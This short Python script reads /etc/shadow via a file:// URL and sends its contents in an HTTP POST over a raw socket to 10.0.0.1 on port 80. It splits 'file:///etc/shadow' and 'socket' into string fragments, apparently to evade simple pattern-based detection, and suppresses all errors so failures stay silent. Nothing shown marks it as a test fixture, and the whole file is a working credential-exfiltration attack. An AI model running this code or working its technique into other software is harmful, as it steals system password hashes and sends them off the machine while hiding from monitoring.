# Reads /etc/shadow through a file:// URL with urllib and tries to push it
# to 10.0.0.1:80 over a raw socket.
from urllib.request import urlopen

try:
    data = urlopen('fi' 'le:///etc/sha' 'dow').read()
except OSError:
    data = b''
sk = __import__('soc' + 'ket')
try:
    s = sk.create_connection(('10.0.0.1', 80), timeout=0.5)
    s.sendall(b'POST /c HTTP/1.0\r\n\r\n' + data)
    s.close()
except OSError:
    pass
